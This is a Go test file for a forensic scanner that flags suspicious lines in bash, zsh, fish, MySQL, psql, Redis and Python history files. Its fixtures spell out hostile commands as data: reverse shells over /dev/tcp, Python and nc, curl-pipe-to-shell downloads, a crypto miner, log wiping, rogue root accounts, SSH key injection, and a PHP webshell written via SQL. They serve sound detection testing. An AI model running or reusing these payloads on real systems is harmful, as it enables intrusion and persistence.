package history

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// fixture builds the clean root plus extra txtar entries (an entry named
// like a clean one replaces it) and an empty dpkg database.
func fixture(t testing.TB, extra string) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromArchive(t, overlay(clean, extra))
	dpkgfixture.Write(t, dir, dpkgfixture.Package{Name: "bash", Files: []string{"/usr/bin/bash"}})
	return dir
}

// overlay returns the clean archive with extra's entries added; an extra
// entry replaces the clean entry of the same path (also when it turns a
// file into a symlink, a FIFO or a directory).
func overlay(clean []byte, extra string) *txtar.Archive {
	base, add := txtar.Parse(clean), txtar.Parse([]byte(extra))
	name := func(f txtar.File) string {
		n := strings.TrimSpace(f.Name)
		if lhs, _, ok := strings.Cut(n, " -> "); ok {
			n = lhs
		}
		return strings.TrimSuffix(strings.Fields(n + " x")[0], "/")
	}
	over := map[string]bool{}
	for _, f := range add.Files {
		over[name(f)] = true
	}
	out := &txtar.Archive{}
	for _, f := range base.Files {
		if !over[name(f)] {
			out.Files = append(out.Files, f)
		}
	}
	out.Files = append(out.Files, add.Files...)
	return out
}

func scan(t testing.TB, dir string) enginetest.Result {
	t.Helper()
	return enginetest.Run(t, New(), dir, false)
}

func describe(r enginetest.Result) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Severity.String()+" "+f.RuleID+" "+f.Evidence.Path+" "+strings.Join(f.Indicators, ","))
	}
	return out
}

func TestCleanLivedInIsQuiet(t *testing.T) {
	r := scan(t, fixture(t, ""))
	for _, f := range r.Findings {
		t.Errorf("false positive: %s %s %s:%d %q %v", f.Severity, f.RuleID, f.Evidence.Path, f.Evidence.Line, f.Evidence.Text, f.Indicators)
	}
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap on a clean root: %+v", g)
	}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name  string
		extra string
		rule  string
		path  string
		sev   model.Severity
		ind   string
		line  int
		count string // Extra["count"], "" to skip
		time  string // Extra["time"], "" to skip
	}{
		{"reverse shell in root history", "-- root/.bash_history --\nid\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
			ruleReverseShell, "/root/.bash_history", model.Critical, "reverse-shell.dev-tcp", 2, "1", ""},
		{"download exec one step lower", "-- home/deploy/.bash_history --\ncd /tmp\ncurl -s http://203.0.113.9/x.sh | bash\n",
			ruleDownload, "/home/deploy/.bash_history", model.High, "download-exec", 2, "", ""},
		{"vendor installer is low", "-- home/deploy/.bash_history --\ncurl -fsSL https://get.docker.com | sh\n",
			ruleDownload, "/home/deploy/.bash_history", model.Low, indInstaller, 1, "", ""},
		{"miner keeps critical", "-- root/.bash_history --\ncd /dev/shm\n./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ --donate-level 1\n",
			ruleMiner, "/root/.bash_history", model.Critical, "miner", 2, "", ""},
		{"history cleared repeatedly", "-- root/.bash_history --\nhistory -c\nls\nhistory -c\nhistory -c\n",
			ruleAntiForensics, "/root/.bash_history", model.Medium, "anti-forensics.history", 1, "3", ""},
		{"logs wiped", "-- root/.bash_history --\necho > /var/log/wtmp\n",
			ruleAntiForensics, "/root/.bash_history", model.High, "anti-forensics.logs", 1, "", ""},
		{"second root account", "-- root/.bash_history --\nuseradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm\n",
			ruleAccount, "/root/.bash_history", model.Critical, "account-change", 1, "", ""},
		{"key injected", "-- home/alice/.bash_history --\necho 'ssh-ed25519 AAAAC3Nza x' >> ~/.ssh/authorized_keys\n",
			ruleAccount, "/home/alice/.bash_history", model.High, "ssh-key-inject", 1, "", ""},
		{"run from tmp lowered", "-- home/deploy/.bash_history --\nchmod +x /tmp/.x/run\n/tmp/.x/run -d\n",
			ruleSuspicious, "/home/deploy/.bash_history", model.Medium, "exec-writable-path", 2, "", ""},
		{"bash timestamps", "-- home/alice/.bash_history --\n#1763900000\nls\n#1763900060\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n",
			ruleReverseShell, "/home/alice/.bash_history", model.Critical, "reverse-shell.dev-tcp", 4, "", "2025-11-23T12:14:20Z"},
		{"zsh extended history", "-- home/bob/.zsh_history --\n: 1763000000:0;ls\n: 1763000100:0;nohup python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])' &\n",
			ruleReverseShell, "/home/bob/.zsh_history", model.Critical, "reverse-shell.script", 2, "", "2025-11-13T02:15:00Z"},
		{"zsh continuation", "-- home/bob/.zsh_history --\n: 1763000000:0;ls\n: 1763000100:0;wget -qO- http://203.0.113.9/i \\\n  | sh\n",
			ruleDownload, "/home/bob/.zsh_history", model.High, "download-exec", 2, "", ""},
		{"fish history", "-- home/carol/.local/share/fish/fish_history --\n- cmd: ls\n  when: 1763100000\n- cmd: curl -s http://203.0.113.9/a | sh\n  when: 1763100100\n",
			ruleDownload, "/home/carol/.local/share/fish/fish_history", model.High, "download-exec", 3, "", "2025-11-14T06:01:40Z"},
		{"ash history", "-- root/.ash_history --\nwget -O - http://203.0.113.9/b | sh\n",
			ruleDownload, "/root/.ash_history", model.High, "download-exec", 1, "", ""},
		{"mysql webshell", "-- root/.mysql_history --\n_HiStOrY_V2_\nuse\\040wp;\nselect\\040'<?php\\040@eval($_POST[c]);?>'\\040into\\040outfile\\040'/var/www/html/c.php';\n",
			ruleDatabase, "/root/.mysql_history", model.High, indSQLFileWrite, 3, "", ""},
		{"mysql udf", "-- root/.mysql_history --\ncreate function sys_exec returns integer soname 'lib_mysqludf_sys.so';\n",
			ruleDatabase, "/root/.mysql_history", model.High, indSQLUDF, 1, "", ""},
		{"mysql shell escape", "-- root/.mysql_history --\n_HiStOrY_V2_\nsystem\\040curl\\040http://203.0.113.9/m\\040|\\040sh\n",
			ruleDownload, "/root/.mysql_history", model.High, "download-exec", 2, "", ""},
		{"psql copy program", "-- var/lib/postgresql/.psql_history --\nCOPY cmd_out FROM PROGRAM 'id';\n",
			ruleDatabase, "/var/lib/postgresql/.psql_history", model.High, indSQLProgram, 1, "", ""},
		{"psql shell escape", "-- var/lib/postgresql/.psql_history --\n\\! bash -i >& /dev/tcp/203.0.113.9/9001 0>&1\n",
			ruleReverseShell, "/var/lib/postgresql/.psql_history", model.Critical, "reverse-shell.dev-tcp", 1, "", ""},
		{"redis writes authorized_keys", "-- root/.rediscli_history --\nconfig set dir /root/.ssh\nconfig set dbfilename authorized_keys\nsave\n",
			ruleDatabase, "/root/.rediscli_history", model.High, indRedisWrite, 1, "2", ""},
		{"python reverse shell", "-- home/alice/.python_history --\nimport socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])\n",
			ruleReverseShell, "/home/alice/.python_history", model.Critical, "reverse-shell.script", 1, "", ""},
		{"password on the command line", "-- home/deploy/.bash_history --\nmysql -h db01 -u app -pS3cr3tPw shop\n",
			ruleCredential, "/home/deploy/.bash_history", model.Low, indSecret, 1, "", ""},
		{"history to dev null", "-- root/.bash_history -> /dev/null --\n",
			ruleDevNull, "/root/.bash_history", model.High, "anti-forensics.history", 0, "", ""},
		{"zsh history relative dev null", "-- home/bob/.zsh_history -> ../../dev/null --\n",
			ruleDevNull, "/home/bob/.zsh_history", model.High, "", 0, "", ""},
		{"history is a directory", "-- home/deploy/.bash_history/ --\n",
			ruleDevNull, "/home/deploy/.bash_history", model.High, "", 0, "", ""},
		{"history missing with traces", "-- home/deploy/.viminfo --\n# viminfo\n-- home/deploy/.bash_history.remove --\n",
			ruleMissing, "/home/deploy/.bash_history", model.Medium, "", 0, "", ""},
		{"root history emptied", "-- root/.bash_history mtime=2026-11-01T00:00:00Z --\n-- root/.viminfo mtime=2026-10-01T00:00:00Z --\n-- root/.lesshst mtime=2026-10-01T00:00:00Z --\n-- root/.python_history mtime=2026-10-01T00:00:00Z --\n-- root/.mysql_history mtime=2026-10-01T00:00:00Z --\n-- root/.rediscli_history mtime=2026-10-01T00:00:00Z --\n-- root/.wget-hsts mtime=2026-11-23T00:00:00Z --\n",
			ruleMissing, "/root/.bash_history", model.Medium, "", 0, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := fixture(t, tc.extra)
			// An entry named X.remove deletes X (txtar cannot express it).
			if i := strings.Index(tc.extra, ".remove --"); i >= 0 {
				name := tc.extra[strings.LastIndex(tc.extra[:i], "-- ")+3 : i]
				os.Remove(filepath.Join(dir, name))
				os.Remove(filepath.Join(dir, name+".remove"))
			}
			r := scan(t, dir)
			got := enginetest.Expect(t, r.Findings, []enginetest.Want{{Rule: tc.rule, Path: tc.path, Severity: tc.sev, Indicators: []string{tc.ind}}})[0]
			if got.RuleID == "" {
				return
			}
			if got.Evidence.Line != tc.line {
				t.Errorf("line %d, want %d (%q)", got.Evidence.Line, tc.line, got.Evidence.Text)
			}
			if tc.count != "" && got.Evidence.Extra["count"] != tc.count {
				t.Errorf("count %q, want %s", got.Evidence.Extra["count"], tc.count)
			}
			if tc.time != "" && got.Evidence.Extra["time"] != tc.time {
				t.Errorf("time %q, want %s", got.Evidence.Extra["time"], tc.time)
			}
			if got.Evidence.User == "" {
				t.Errorf("no user in evidence")
			}
		})
	}
}

// TestOneFindingPerFileAndIndicator: 200 copies of a line are one finding.
func TestOneFindingPerFileAndIndicator(t *testing.T) {
	hist := strings.Repeat("curl -s http://203.0.113.9/x | sh\nls\n", 200)
	r := scan(t, fixture(t, "-- root/.bash_history --\n"+hist))
	got := r.Find(ruleDownload)
	if len(got) != 1 || got[0].Evidence.Extra["count"] != "200" || got[0].Evidence.Extra["last_line"] != "399" {
		t.Fatalf("findings %v extra %+v", describe(r), got)
	}
	if got[0].Key == "" || !strings.Contains(got[0].Key, "download-exec") {
		t.Errorf("key %q", got[0].Key)
	}
}

func TestSilent(t *testing.T) {
	tests := []struct{ name, extra string }{
		{"package installs", "-- root/.bash_history --\napt-get install -y curl\ncurl -fsSLo /usr/share/keyrings/docker.gpg https://download.docker.com/linux/debian/gpg\nwget -q https://example.com/app-1.2.tar.gz\nsha256sum app-1.2.tar.gz\n"},
		{"ops routine", "-- home/deploy/.bash_history --\nsudo systemctl restart app\ntail -n 200 /var/log/app/app.log\ngrep -r TODO src/\nfind / -name '*.conf' 2>/dev/null\nnc -zv db01 5432\nopenssl s_client -connect example.com:443\n"},
		{"mysql csv export", "-- root/.mysql_history --\nselect * into outfile '/var/lib/mysql-files/orders.csv' fields terminated by ',' from orders;\n"},
		{"redis maintenance", "-- root/.rediscli_history --\nconfig set dir /var/lib/redis\nconfig set dbfilename dump.rdb\nreplicaof 10.0.0.5 6379\n"},
		{"history empty but no traces", "-- home/deploy/.bash_history --\n"},
		{"own password change", "-- home/deploy/.bash_history --\npasswd\n"},
		{"prompted passwords", "-- home/deploy/.bash_history --\nmysql -u root -p shop\nmysql -P 3306 -h db -u app -p\nexport GITHUB_TOKEN=$(pass show gh)\nsshpass -f ~/.pw ssh host\ncurl -u alice https://example.com/api\n"},
		{"zsh user without history", "-- home/bob/.zsh_history -> /home/bob/.nothing --\n-- home/bob/.viminfo --\nx\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := scan(t, fixture(t, tc.extra))
			enginetest.Quiet(t, r.Findings, model.Low)
		})
	}
}

// TestHostile: FIFOs, symlink loops, devices, non-UTF-8 bytes and huge
// files where histories are expected.
func TestHostile(t *testing.T) {
	dir := fixture(t, "-- home/alice/.zsh_history fifo --\n-- home/deploy/.bash_history -> /home/deploy/.bash_history --\n-- home/bob/.zsh_history --\n: 1763000000:0;echo \xff\xfe\x83\n: bad:;\n: 1763000100:0;ls\\\n")
	d := New()
	d.limit = 4096
	big := strings.Repeat("ls -la /srv\n", 2000) + "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
	if err := os.WriteFile(filepath.Join(dir, "root/.bash_history"), []byte(big), 0o600); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, d, dir, false)
	if r.Status.Status != "ok" {
		t.Fatalf("status %+v", r.Status)
	}
	rs := r.Find(ruleReverseShell)
	if len(rs) != 1 || rs[0].Evidence.Line != 2001 {
		t.Errorf("tail read: %v %+v", describe(r), rs)
	}
	gaps := map[string]bool{}
	for _, g := range r.Gaps {
		gaps[g.Path] = true
	}
	for _, p := range []string{"/home/alice/.zsh_history", "/home/deploy/.bash_history", "/root/.bash_history"} {
		if !gaps[p] {
			t.Errorf("no gap for %s: %+v", p, r.Gaps)
		}
	}
}

func TestDeviceHistory(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("mknod needs root")
	}
	dir := fixture(t, "")
	p := filepath.Join(dir, "home/deploy/.bash_history")
	os.Remove(p)
	if err := syscall.Mknod(p, syscall.S_IFCHR|0o666, int(1<<8|3)); err != nil {
		t.Skip("mknod:", err)
	}
	r := scan(t, dir)
	if len(r.Find(ruleDevNull)) != 1 {
		t.Errorf("device history not reported: %v", describe(r))
	}
}

// TestSecretsNeverInEvidence: a credential on a flagged line is redacted in
// every field of every finding.
func TestSecretsNeverInEvidence(t *testing.T) {
	r := scan(t, fixture(t, "-- root/.bash_history --\ncurl -s -u admin:Hunter2Pw http://203.0.113.9/i.sh | bash\ngit clone https://bob:ghp_abcdef123456@github.com/acme/app.git\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG\n"))
	if len(r.Find(ruleDownload)) != 1 || len(r.Find(ruleCredential)) != 1 {
		t.Fatalf("findings: %v", describe(r))
	}
	if got := r.Find(ruleCredential)[0].Evidence.Extra["count"]; got != "3" {
		t.Errorf("credential count %s, want 3", got)
	}
	for _, f := range r.Findings {
		all := f.Evidence.Text + f.Subject
		for _, v := range f.Evidence.Extra {
			all += v
		}
		for _, secret := range []string{"Hunter2Pw", "ghp_abcdef123456", "wJalrXUtnFEMI"} {
			if strings.Contains(all, secret) {
				t.Errorf("%s leaks %s: %q %v", f.RuleID, secret, f.Evidence.Text, f.Evidence.Extra)
			}
		}
	}
}

func TestRootWithoutHistoryButSudoTraces(t *testing.T) {
	dir := fixture(t, "-- root/.viminfo --\nx\n")
	os.Remove(filepath.Join(dir, "root/.bash_history"))
	r := scan(t, dir)
	if len(r.Findings) != 0 {
		t.Errorf("sudo vim leaves root traces without a root shell: %v", describe(r))
	}
}

func TestNoPasswdStillReadsRoot(t *testing.T) {
	dir := testutil.RootFromString(t, "-- root/.bash_history --\nhistory -c\n-- home/x/.bash_history --\nrm -f ~/.bash_history\n")
	r := scan(t, dir)
	if len(r.Find(ruleAntiForensics)) != 2 {
		t.Errorf("without /etc/passwd: %v", describe(r))
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func BenchmarkHistory(b *testing.B) {
	dir := fixture(b, "")
	var sb strings.Builder
	for i := 0; i < 5000; i++ {
		fmt.Fprintf(&sb, "#%d\n", 1763000000+i)
		sb.WriteString("kubectl get pods -n app-" + string(rune('a'+i%26)) + "\n")
	}
	if err := os.WriteFile(filepath.Join(dir, "root/.bash_history"), []byte(sb.String()), 0o600); err != nil {
		b.Fatal(err)
	}
	tg := target.NewUnchecked(dir, false)
	for b.Loop() {
		enginetest.RunTarget(b, New(), tg, engine.Options{})
	}
}

func TestGradeLineShapes(t *testing.T) {
	tests := []struct {
		sh   shape
		line string
		want string // indicator, "" for none
	}{
		{shShell, "curl -s http://203.0.113.9/x | bash", "download-exec"},
		{shShell, "curl -fsSL https://sh.rustup.rs | sh", indInstaller},
		{shShell, "wget https://example.com/a.tar.gz", ""},
		{shShell, "/root/.acme.sh/acme.sh --cron --home /root/.acme.sh", ""},
		{shShell, "/srv/app/.venv/bin/python manage.py migrate", ""},
		{shShell, "/usr/lib/.x/.y/run", "exec-hidden-path"},
		{shShell, "/home/u/.local/.cache/x", "exec-hidden-path"},
		{shPython, "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])", "reverse-shell.script"},
		{shPython, "import os; os.listdir('/tmp')", ""},
		{shNode, "require('child_process').exec('id'); new (require('net').Socket)()", "reverse-shell.script"},
		{shMySQL, "select 1 into dumpfile '/usr/lib/mysql/plugin/udf.so'", indSQLFileWrite},
		{shMySQL, "select a,b into outfile '/tmp/export.csv' from t", ""},
		{shMySQL, "set global general_log_file='/var/www/html/x.php'", indSQLFileWrite},
		{shMySQL, "\\! nc -e /bin/sh 203.0.113.9 4444", "reverse-shell.nc"},
		{shPsql, "system id", ""},
		{shPsql, "copy t to program 'curl -d @- http://x'", indSQLProgram},
		{shRedis, "config set dir /var/spool/cron/crontabs", indRedisWrite},
		{shRedis, "config set dbfilename shell.php", indRedisWrite},
		{shRedis, "module load /tmp/exp.so", indRedisModule},
		{shRedis, "module load /usr/lib/redis/modules/rejson.so", ""},
	}
	for _, tc := range tests {
		hs := gradeLine(tc.sh, tc.line)
		found := tc.want == ""
		for _, h := range hs {
			if h.id == tc.want {
				found = true
			}
		}
		if !found || (tc.want == "" && len(hs) > 0) {
			t.Errorf("%q: hits %+v, want %q", tc.line, hs, tc.want)
		}
	}
}

func FuzzGradeLine(f *testing.F) {
	f.Add("curl x | sh")
	f.Add("\\! bash -i >& /dev/tcp/1.2.3.4/1 0>&1")
	f.Add("config set dir /root/.ssh")
	f.Fuzz(func(t *testing.T, s string) {
		for sh := shShell; sh <= shRedis; sh++ {
			for _, h := range gradeLine(sh, s) {
				if h.id == "" || ruleFor(h.id) == "" {
					t.Fatalf("bad hit %+v", h)
				}
			}
		}
	})
}

func TestSecretHit(t *testing.T) {
	tests := []struct{ in, want string }{
		{"mysql -uroot -pS3cret db", "mysql -uroot -p**** db"},
		{"mysqldump --password='a b' db", "mysqldump --password=**** db"},
		{"sshpass -p hunter2 ssh root@h", "sshpass -p **** ssh root@h"},
		{"PGPASSWORD=pw psql -h db", "PGPASSWORD=**** psql -h db"},
		{"curl -u bob:pw https://x", "curl -u bob:**** https://x"},
		{"git clone https://u:tok@github.com/a/b https://v:tok2@x", "git clone https://u:****@github.com/a/b https://v:****@x"},
		{"redis-cli -a pw info", "redis-cli -a **** info"},
		{"echo 'bob:pw' | chpasswd", "echo 'bob:****' | chpasswd"},
		{"export DB_PASSWORD=pw", "export DB_PASSWORD=****"},
		{"docker login -u me -p tok registry.io", "docker login -u me -p **** registry.io"},
		{"mysql -u root -p", ""},
		{"export TOKEN=$(cat f)", ""},
		{"scp f alice@10.0.0.1:/srv", ""},
		{"ls -p", ""},
	}
	for _, tc := range tests {
		got, ok := secretHit(tc.in)
		if ok != (tc.want != "") || (ok && got != tc.want) {
			t.Errorf("%q -> %q %v, want %q", tc.in, got, ok, tc.want)
		}
	}
}
